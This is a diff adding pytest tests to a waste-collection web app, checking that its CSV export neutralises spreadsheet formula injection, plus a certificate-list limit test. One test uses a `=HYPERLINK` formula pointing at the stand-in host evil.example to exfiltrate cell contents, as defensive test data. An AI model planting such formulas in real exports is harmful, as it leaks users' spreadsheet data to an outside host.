@@ -17,7 +17,9 @@ from litestar.testing import TestClient
 from pypdf import PdfReader
 
 from espaco.app import create_app
+from espaco.services import coletas as coletas_service
 from espaco.tables import Certificate, Collection, CollectionPhoto, Location
+from espaco.web.downloads import csv_cell
 
 PERIOD = {"inicio": "2026-09-01", "fim": "2026-11-30"}
 HX = {"HX-Request": "true"}
@@ -500,3 +502,73 @@ def test_quantity_totals_are_exact_with_a_fallback_for_more_than_three_decimals(
     assert "1.234.567,891 kg" in totals
     assert "2,0010 m³" in totals  # 0.0005 + 2.0005, summed exactly from the texts
     assert "un" not in totals  # a cancelled collection has no quantity to report
+
+
+LEADERS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("leader", LEADERS)
+def test_every_csv_cell_that_could_start_a_formula_is_neutralised(web, leader):
+    """The ERP's texts, the ticket number (``external_id``) and the MTR included: a spreadsheet
+    would run ``=HYPERLINK(…)`` from any of them."""
+    formula = f'{leader}HYPERLINK("http://evil.example/?x="&A1;"Clique")'
+    short = f"{leader}1+1"
+    place = s.location(1, label=formula)
+    doc = s.document(
+        clients=[s.client(1, locations=[place]), s.client(2)],
+        collections=[
+            cs.collection(
+                1, external_id=short, service=formula,
+                waste={"description": formula, "class": short}, unit=short,
+                mtr_number="260010679501", mtr_status=short,
+                performed_at="2026-10-05T09:32:00-03:00",
+            )
+        ],
+    )  # fmt: skip
+    call(web, cs.seed, web.app.state.settings, doc)
+    login(web)
+    response = web.get("/coletas/exportar", params=PERIOD)
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    cells = dict(zip(header, row, strict=True))
+    for column in ("Local", "Serviço", "Resíduo", "Classe", "Unidade", "Situação SINIR", "Ticket"):
+        # The import strips a leading tab or CR from texts; the other leaders reach the CSV.
+        expected = (
+            "'" + leader if leader.strip() else "HYPERLINK" if "Clique" in cells[column] else "1+1"
+        )
+        assert cells[column].startswith(expected), (column, cells[column])
+    assert not any(cell[:1] in LEADERS for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+55 11 99999-0000", "'+55 11 99999-0000"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("COL-1", "COL-1"),
+        ("1=1", "1=1"),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_csv_cell_prefixes_only_what_a_spreadsheet_would_run(value, cell):
+    assert csv_cell(value) == cell
+
+
+def test_the_certificate_list_stops_at_its_limit_and_says_so(web, monkeypatch):
+    monkeypatch.setattr(coletas_service, "CERTIFICATE_LIMIT", 2)
+    doc = s.document(
+        clients=cs.clients(),
+        certificates=[s.certificate(n, "CLI-1", issued_on=f"2026-11-0{n}") for n in (1, 2, 3)],
+    )
+    call(web, cs.seed, web.app.state.settings, doc)
+    login(web)
+    page = soup(web.get("/coletas", params=PERIOD))
+    listed = page.select('section[aria-labelledby="cdf-titulo"] tbody tr td:first-child')
+    assert [td.get_text() for td in listed] == ["0003/2026", "0002/2026"]
+    assert "Mostrando os 2 certificados mais recentes do período" in page.text
